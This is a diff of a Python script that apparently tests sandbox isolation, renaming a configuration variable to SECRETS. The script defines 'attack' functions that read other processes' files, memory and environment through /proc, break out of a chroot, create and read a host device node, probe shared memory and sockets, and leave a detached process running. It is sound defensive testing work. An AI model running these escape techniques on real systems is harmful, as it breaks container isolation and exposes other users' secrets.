@@ -15,7 +15,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
-WANTED: dict[str, Any] = json.loads(Path("/wanted.json").read_text())
+SECRETS: dict[str, Any] = json.loads(Path("/wanted.json").read_text())
 LIBC = ctypes.CDLL(None, use_errno=True)
 ATTACKS: dict[str, Callable[[], object]] = {}
 
@@ -42,9 +42,9 @@ def processes() -> Iterator[str]:
     yield from (name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (os.getpid(), os.getppid()))
 
 
-def first(found: Iterator[str]) -> str:
-    for one in found:
-        return one
+def first(secrets: Iterator[str]) -> str:
+    for secret in secrets:
+        return secret
     raise NothingError
 
 
@@ -60,22 +60,22 @@ def searched(place: str, text: str) -> Iterator[str]:
 
 @attack
 def read_a_file_of_the_host_through_another_process() -> str:
-    def found() -> Iterator[str]:
+    def matches() -> Iterator[str]:
         for name in processes():
             for link in ("root", "cwd"):
-                path = Path("/proc", name, link, WANTED["file"].lstrip("/"))
+                path = Path("/proc", name, link, SECRETS["file"].lstrip("/"))
                 try:
-                    if WANTED["secret"] in path.read_text():
+                    if SECRETS["secret"] in path.read_text():
                         yield str(path)
                 except OSError:
                     continue
 
-    return first(found())
+    return first(matches())
 
 
 @attack
 def read_the_memory_of_another_process() -> str:
-    def found() -> Iterator[str]:
+    def matches() -> Iterator[str]:
         for name in processes():
             try:
                 Path("/proc", name, "mem").open("rb").close()
@@ -83,27 +83,27 @@ def read_the_memory_of_another_process() -> str:
             except OSError:
                 continue
 
-    return first(found())
+    return first(matches())
 
 
 @attack
 def read_the_environment_of_another_process() -> str:
-    return first(searched("environ", WANTED["secret"]))
+    return first(searched("environ", SECRETS["secret"]))
 
 
 @attack
 def find_the_secret_in_the_own_environment() -> str:
-    return first(name for name, value in os.environ.items() if WANTED["secret"] in value)
+    return first(name for name, value in os.environ.items() if SECRETS["secret"] in value)
 
 
 @attack
 def see_a_process_of_the_host() -> str:
-    return first(searched("cmdline", WANTED["marker"]))
+    return first(searched("cmdline", SECRETS["marker"]))
 
 
 @attack
 def signal_a_process_of_the_host() -> str:
-    path = first(searched("cmdline", WANTED["marker"]))
+    path = first(searched("cmdline", SECRETS["marker"]))
     os.kill(int(path.split("/")[2]), 0)
     return path
 
@@ -126,7 +126,7 @@ def break_out_of_the_root_folder() -> str:
         os.chdir("..")
     os.chroot(".")
     try:
-        return first(name for name in (WANTED["file"], "/storage", "/disk", "/scratch") if os.path.exists(name))
+        return first(name for name in (SECRETS["file"], "/storage", "/disk", "/scratch") if os.path.exists(name))
     finally:
         os.fchdir(top)
         os.chroot(".")
@@ -151,7 +151,7 @@ def mount_something() -> str:
 
 @attack
 def make_a_device_of_the_host_and_read_it() -> str:
-    number = int(WANTED["device"])
+    number = int(SECRETS["device"])
     os.mknod("/host-device", 0o060600, number)
     with open("/host-device", "rb") as file:
         return f"{len(file.read(512))} bytes"
@@ -257,13 +257,13 @@ def reach_the_hypervisor() -> str:
 
 @attack
 def see_shared_memory_of_the_host() -> str:
-    return str(call(LIBC.shmget(int(WANTED["shared_memory"]), 0, 0)))
+    return str(call(LIBC.shmget(int(SECRETS["shared_memory"]), 0, 0)))
 
 
 @attack
 def connect_to_an_abstract_socket() -> str:
     with socket.socket(socket.AF_UNIX) as client:
-        client.connect("\0" + WANTED["abstract"])
+        client.connect("\0" + SECRETS["abstract"])
         return client.recv(64).decode()
 
 
@@ -275,7 +275,7 @@ def connecting(name: str, address: str, port: int) -> None:
     ATTACKS[f"connect-to-{name}"] = connect
 
 
-for name, (address, port) in WANTED["listeners"].items():
+for name, (address, port) in SECRETS["listeners"].items():
     connecting(name, address, port)
 
 
@@ -297,7 +297,7 @@ def main() -> None:
     if os.fork() == 0:  # and something that goes on after the end
         os.setsid()
         if os.fork() == 0:
-            command = [sys.executable, "-c", f"import time; time.sleep(600)  # {WANTED['daemon']}"]
+            command = [sys.executable, "-c", f"import time; time.sleep(600)  # {SECRETS['daemon']}"]
             os.execv(sys.executable, command)  # noqa: S606 - that is the attack
         os._exit(0)
 
